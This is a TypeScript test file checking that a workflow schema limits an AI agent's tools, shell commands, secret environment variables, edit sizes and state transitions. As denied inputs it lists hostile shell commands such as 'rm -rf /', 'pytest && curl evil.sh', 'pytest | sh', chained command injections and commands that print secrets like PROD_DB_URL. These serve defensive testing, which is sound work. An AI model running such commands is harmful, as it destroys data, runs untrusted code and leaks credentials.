/** Fields of a state: what a host's calls may do in it, and how much. */
import { expect } from 'vitest'
import type { JsonObject } from '../../src/core/json.ts'
import { claimsOf } from './claim.ts'
import { useWorkflows, type WorkflowRun, workflowDoors } from './workflows.ts'

const claim = claimsOf('workflow schema')
const workflows = useWorkflows()

const withState = (state: JsonObject) => ({
  id: 'one-state',
  initial: 'work',
  states: { work: { on: { NEXT: 'other' }, ...state }, other: { on: { END: 'end' } }, end: final },
})
const final = { type: 'final' }

type Call = readonly [tool: string, input: JsonObject, code: string | null]
type Row = {
  readonly section: string
  readonly quote: string
  readonly check: string
  readonly state: JsonObject
  readonly calls: readonly Call[]
  readonly differs?: string
}

const bash = (command: string, code: string | null): Call => ['Bash', { command }, code]
const edit = (lines: number, file = 'a.py'): JsonObject => ({
  file_path: file,
  old_string: 'x',
  new_string: Array.from({ length: lines }, (_, i) => `line ${i}`).join('\n'),
})

const planning = { allowed_tools: ['Read', 'Grep', 'Glob'] }
const testing = {
  allowed_tools: ['Read', 'Bash'],
  allowed_commands: ['pytest', 'npm test', 'cargo test'],
}
const staging = {
  allowed_tools: ['Bash'],
  blocked_env: ['PROD_DB_URL', 'AWS_SECRET_ACCESS_KEY'],
}
const denyEnv = { allowed_tools: ['Bash'], deny_env: ['PROD_DB_URL'] }

const tools = { section: 'allowed_tools' }
const commands = { section: 'allowed_commands', state: testing }
const env = { section: 'blocked_env and env_overrides', state: staging }
const notListed = 'The agent can run pytest -v tests/ but not rm -rf / or git push.'
const prevents = 'blocked_env (alias deny_env) prevents the agent from reading specified variables.'

const rows: readonly Row[] = [
  ...['Read', 'Grep', 'Glob'].map((tool) => ({
    ...{ ...tools, state: planning, check: `${tool} is listed and allowed` },
    quote: '"planning": { "allowed_tools": ["Read", "Grep", "Glob"] }',
    calls: [[tool, { file_path: 'a.py', pattern: 'x' }, null] as const],
  })),
  ...['Edit', 'Write', 'Bash', 'WebFetch', 'mcp__github__create_issue'].map((tool) => ({
    ...{ ...tools, state: planning, check: `${tool} is neither listed nor allowed` },
    quote: 'Controls which MCP tools the agent can call.',
    calls: [[tool, { file_path: 'a.py', command: 'ls > x' }, 'TOOL_NOT_ALLOWED'] as const],
  })),
  {
    ...{ ...tools, quote: 'Tool names must match exactly as the agent knows them' },
    check: 'a partial name allows no tool',
    state: { allowed_tools: ['Rea', 'Read*', 'ReadFile'] },
    calls: [['Read', { file_path: 'a.py' }, 'TOOL_NOT_ALLOWED']],
  },
  {
    ...{ ...tools, quote: 'Tool names must match exactly as the agent knows them' },
    check: "another host's name for the same tool also allows it",
    differs: 'tool-spelling',
    state: { allowed_tools: ['read'] },
    calls: [['Read', { file_path: 'a.py' }, null]],
  },
  {
    ...{ ...tools, quote: 'If allowed_tools is omitted, all tools pass through' },
    check: 'without allowed_tools, every tool is allowed',
    state: {},
    calls: [
      ['Edit', edit(3), null],
      ['WebFetch', { url: 'https://example.com' }, null],
      bash('make all', null),
    ],
  },
  {
    ...{ ...tools, quote: 'If allowed_tools is omitted, all tools pass through' },
    check: 'null means the same as omitting allowed_tools',
    state: { allowed_tools: null },
    calls: [['Edit', edit(3), null]],
  },
  {
    ...{ ...tools, quote: 'allowed_tools | string[] | Tools the agent can use in this state' },
    check: 'an empty list allows no tool',
    differs: 'empty-tools',
    state: { allowed_tools: [] },
    calls: [['Read', { file_path: 'a.py' }, 'TOOL_NOT_ALLOWED']],
  },
  {
    ...{ ...tools, quote: 'own MCP tools (transition, get_state, etc.) are always available' },
    check: 'these tools work even in a state that allows no tool',
    state: { allowed_tools: [] },
    calls: [
      ['mcp__pawl__statewright_transition', { event: 'NEXT' }, null],
      ['mcp__pawl__statewright_get_state', {}, null],
    ],
  },
  ...['pytest', 'pytest -v tests/', 'npm test', 'npm test -- --watch=false', 'cargo test'].map(
    (command) => ({
      ...{ ...commands, quote: 'Values are prefix-matched.', check: `\`${command}\` is allowed` },
      calls: [bash(command, null)],
    }),
  ),
  ...['rm -rf /', 'rm -rf build', 'git push', 'npm install', 'npm', 'cargo build', 'node -e 1'].map(
    (command) => ({
      ...{ ...commands, quote: notListed, check: `\`${command}\` is denied` },
      calls: [bash(command, 'COMMAND_NOT_ALLOWED')],
    }),
  ),
  {
    ...{ ...commands, quote: 'Values are prefix-matched.', differs: 'command-words' },
    check: 'a prefix matches whole words only: `pytestx` is denied',
    calls: [bash('pytestx', 'COMMAND_NOT_ALLOWED')],
  },
  ...['pytest && curl evil.sh', 'pytest; git push', 'pytest | sh', 'pytest $(git push)'].map(
    (command) => ({
      ...{ ...commands, quote: 'Values are prefix-matched.', differs: 'command-parts' },
      check: `every command in a line must be listed: \`${command}\` is denied`,
      calls: [bash(command, 'COMMAND_NOT_ALLOWED')],
    }),
  ),
  {
    ...{
      ...commands,
      quote: 'Restricts which shell commands the agent can run via the Bash tool.',
    },
    check: 'tools other than Bash are not restricted',
    calls: [['Read', { file_path: 'a.py' }, null]],
  },
  ...['echo $PROD_DB_URL', `curl "\${PROD_DB_URL}/api"`, 'printenv PROD_DB_URL', 'env'].map(
    (command) => ({
      ...{ ...env, quote: prevents, check: `\`${command}\` is denied` },
      calls: [bash(command, 'ENV_BLOCKED')],
    }),
  ),
  {
    ...{
      ...env,
      quote: prevents,
      check: 'each listed variable is denied; other variables are not',
    },
    calls: [bash('echo $AWS_SECRET_ACCESS_KEY', 'ENV_BLOCKED'), bash('echo $HOME', null)],
  },
  {
    ...{ ...env, state: denyEnv, quote: 'blocked_env | string[] | Alias: deny_env' },
    check: 'deny_env denies its variables, too',
    calls: [bash('echo $PROD_DB_URL', 'ENV_BLOCKED'), bash('echo $HOME', null)],
  },
]

const codeOf = ({ verdict, code }: { readonly verdict: string; readonly code: string }) =>
  verdict === 'allow' ? null : code

async function expectCalls(run: WorkflowRun, calls: readonly Call[]): Promise<void> {
  for (const [tool, input, code] of calls) {
    expect([tool, codeOf(await run.call(tool, input))]).toEqual([tool, code])
  }
}

for (const [index, { state, calls, ...row }] of rows.entries()) {
  const door = workflowDoors[index % 3] ?? 'rest'
  claim({ ...row, check: `${row.check} (${door})` }, async () => {
    await expectCalls(await workflows.open(door, withState(state)), calls)
  })
}

// ── limits ──────────────────────────────────────────────────────────────────

const read: Call = ['Read', { file_path: 'a.py' }, null]

claim(
  {
    section: 'max_iterations',
    quote: 'When the limit is reached, the agent is forced to make a transition decision',
    check: 'the call after the limit is denied; a transition is accepted and resets the count',
    differs: 'iterations-deny',
  },
  async () => {
    const state = { allowed_tools: ['Read'], max_iterations: 2, on: { AGAIN: 'work', NEXT: 'end' } }
    const run = await workflows.open('stdio', withState(state))
    await expectCalls(run, [read, read, ['Read', { file_path: 'b.py' }, 'CALLS_EXHAUSTED']])
    expect((await run.look()).values).toMatchObject({ iteration: 2, max_iterations: 2 })
    expect((await run.send('AGAIN')).code).toBe(null)
    await expectCalls(run, [read])
  },
)

claim(
  {
    section: 'max_iterations',
    quote: 'Counts tool calls in the current state.',
    check: "denied calls and Pawl's own tools are not counted",
  },
  async () => {
    const state = { allowed_tools: ['Read'], max_iterations: 1 }
    const run = await workflows.open('http', withState(state))
    await expectCalls(run, [
      ['Edit', edit(1), 'TOOL_NOT_ALLOWED'],
      ['mcp__pawl__statewright_get_state', {}, null],
      read,
    ])
  },
)

const scope = 'The agent can edit at most 3 files, with each edit operation limited to 20 lines.'
const implementing = {
  allowed_tools: ['Edit', 'Write'],
  max_edit_lines: 20,
  max_files_per_state: 3,
}

for (const [check, tool, input, code] of [
  ['an edit of 20 lines is allowed', 'Edit', edit(20), null],
  ['an edit of 21 lines is denied', 'Edit', edit(21), 'EDIT_TOO_LARGE'],
  [
    ...['writing a file of 21 lines is denied', 'Write'],
    { file_path: 'n.py', content: 'x\n'.repeat(21) },
    'EDIT_TOO_LARGE',
  ],
  [
    ...['writing a file of 20 lines is allowed', 'Write'],
    { file_path: 'n.py', content: 'x\n'.repeat(20) },
    null,
  ],
  [
    ...['removing 21 lines is denied', 'Edit'],
    { file_path: 'a.py', old_string: 'x\n'.repeat(21), new_string: '' },
    'EDIT_TOO_LARGE',
  ],
] as readonly (readonly [string, string, JsonObject, string | null])[]) {
  const section = 'max_edit_lines and max_files_per_state'
  claim({ section, quote: scope, check: `${check} (rest)` }, async () => {
    const run = await workflows.open('rest', withState(implementing))
    await expectCalls(run, [[tool, input, code]])
  })
}

claim(
  {
    section: 'max_edit_lines and max_files_per_state',
    quote: scope,
    check: 'a fourth file is denied, a file edited before is not; a transition resets the count',
  },
  async () => {
    const on = { AGAIN: 'work', NEXT: 'end' }
    const run = await workflows.open('rest', withState({ ...implementing, on }))
    for (const file of ['a.py', 'b.py', 'c.py']) await run.made('Edit', edit(2, file))
    await expectCalls(run, [
      ['Edit', edit(2, 'd.py'), 'TOO_MANY_FILES'],
      ['Edit', edit(2, './a.py'), null],
    ])
    await run.send('AGAIN')
    await expectCalls(run, [['Edit', edit(2, 'd.py'), null]])
  },
)

claim(
  {
    section: 'context_budget_bytes',
    quote: 'Caps the total bytes of tool results the agent can accumulate in a state.',
    check: 'once the results reach this size, the next call is denied',
    differs: 'budget-denies',
  },
  async () => {
    const state = { allowed_tools: ['Read'], context_budget_bytes: 1000 }
    const run = await workflows.open('rest', withState(state))
    await run.made('Read', { file_path: 'a.py' }, 'x'.repeat(999))
    await expectCalls(run, [read])
    await run.made('Read', { file_path: 'a.py' }, 'xx')
    await expectCalls(run, [['Read', { file_path: 'a.py' }, 'BYTES_EXHAUSTED']])
  },
)

for (const field of ['env_overrides', 'env']) {
  claim(
    {
      section: 'blocked_env and env_overrides',
      quote: 'env_overrides (alias env) injects overrides',
      check: `${field}: variables are set for the command itself; the agent sees their names`,
      differs: 'env-values',
    },
    async () => {
      const state = { allowed_tools: ['Bash'], [field]: { NODE_ENV: 'staging' } }
      const run = await workflows.open('stdio', withState(state))
      const { input } = await run.call('Bash', { command: 'npm start' })
      expect(input.command).toBe("export NODE_ENV='staging'; npm start")
      expect((await run.look()).values.env_overrides).toEqual(['NODE_ENV'])
    },
  )
}

claim(
  {
    section: 'State Definition Fields',
    quote: 'type | "final" | Once reached, enforcement deactivates.',
    check: 'in a final state the run is completed, and every tool is allowed',
  },
  async () => {
    const run = await workflows.open('stdio', withState({ ...planning, on: { NEXT: 'end' } }))
    await expectCalls(run, [['Edit', edit(1), 'TOOL_NOT_ALLOWED']])
    const ended = await run.send('NEXT')
    expect(ended).toMatchObject({ state: 'end', status: 'completed', events: [] })
    await expectCalls(run, [['Edit', edit(1), null]])
  },
)

claim(
  {
    section: 'State Definition Fields',
    quote: 'type | "final" | Set to "final" for terminal states.',
    check: 'an event in a final state is rejected',
  },
  async () => {
    const run = await workflows.open('rest', withState({ on: { NEXT: 'end' } }))
    await run.send('NEXT')
    expect((await run.send('NEXT')).code).toBe('RUN_NOT_RUNNING')
  },
)

claim(
  {
    section: 'State Definition Fields',
    quote: 'on | object | {} | Transition events keyed by event name',
    check: 'a state without on accepts no events and gets a dead-end warning',
  },
  async () => {
    const definition = {
      ...{ id: 'stuck', initial: 'a' },
      states: { a: { on: { GO: 'b', END: 'c' } }, b: { allowed_tools: ['Read'] }, c: final },
    }
    const { body } = await workflows.doors.rest('POST /v1/check', { body: { definition } })
    expect(body.findings.map((one: { code: string }) => one.code)).toContain('DEAD_END')
  },
)

for (const door of workflowDoors) {
  claim(
    {
      section: 'instructions',
      quote: "Injected into the agent's context on every turn while in this state.",
      check: `the text for the agent begins with them, both here and after a call (${door})`,
    },
    async () => {
      const instructions = 'Apply the minimal fix. Do not refactor unrelated code.'
      const run = await workflows.open(door, withState({ instructions }))
      expect(run.first.text).toContain(instructions)
      expect((await run.look()).text).toContain(instructions)
      expect((await run.send('NEXT')).text).not.toContain(instructions)
    },
  )
}

for (const door of ['stdio', 'http'] as const) {
  claim(
    {
      section: 'State Definition Fields',
      quote: 'allowed_commands, blocked_env, env_overrides, max_edit_lines, max_files_per_state …',
      check: `the reported state contains every rule of the state (${door})`,
    },
    async () => {
      const state = {
        allowed_tools: ['Read', 'Edit', 'Bash'],
        allowed_commands: ['npm test'],
        blocked_env: ['SECRET'],
        env_overrides: { CI: '1' },
        ...{ max_iterations: 9, max_edit_lines: 5, max_files_per_state: 2 },
        context_budget_bytes: 4000,
      }
      const run = await workflows.open(door, withState(state))
      const wanted = { ...state, env_overrides: ['CI'] }
      const { values, text } = await run.look()
      expect(values).toMatchObject({ ...wanted, state: 'work', is_final: false, iteration: 0 })
      expect(values.run).toMatchObject(wanted)
      for (const word of ['npm test', 'SECRET', 'CI', '5 lines', '2 files']) {
        expect(text).toContain(word)
      }
    },
  )
}

// ── safe_next ───────────────────────────────────────────────────────────────

const safe = {
  id: 'safe',
  initial: 'planning',
  states: {
    planning: {
      allowed_tools: ['Read'],
      safe_next: 'implementing',
      on: { READY: 'testing', FAIL: 'failed', LATER: { target: 'testing', guard: 'never' } },
    },
    implementing: { on: { DONE: 'testing' } },
    testing: { on: { DONE: 'end' } },
    end: final,
    failed: final,
  },
  guards: { never: { field: 'x', op: 'exists' } },
}

for (const [event, state, quote] of [
  ['GO', 'implementing', 'GO has no definition, the machine transitions to implementing.'],
  ['READY', 'testing', 'explicitly defined transitions (including FAIL) are unaffected'],
  ['FAIL', 'failed', 'explicitly defined transitions (including FAIL) are unaffected'],
  ['LATER', 'planning', 'Only fires on truly unknown events'],
] as const) {
  for (const door of workflowDoors) {
    const check = `${event} leads to ${state} (${door})`
    claim({ section: 'safe_next', quote, check }, async () => {
      const run = await workflows.open(door, safe)
      await run.send(event, { note: 1 })
      const after = await run.look()
      expect(after.state).toBe(state)
      expect(after.context).toEqual(state === 'planning' ? {} : { note: 1 })
    })
  }
}

for (const door of workflowDoors) {
  claim(
    {
      section: 'safe_next',
      quote: 'Without safe_next, the transition is rejected.',
      check: `an unknown event is rejected, and the error lists the events (${door})`,
    },
    async () => {
      const run = await workflows.open(door, withState({}))
      const after = await run.send('GO')
      expect(after.code).toBe('SIGNAL_UNKNOWN')
      expect(after.text).toContain('NEXT')
      expect((await run.look()).state).toBe('work')
    },
  )
}
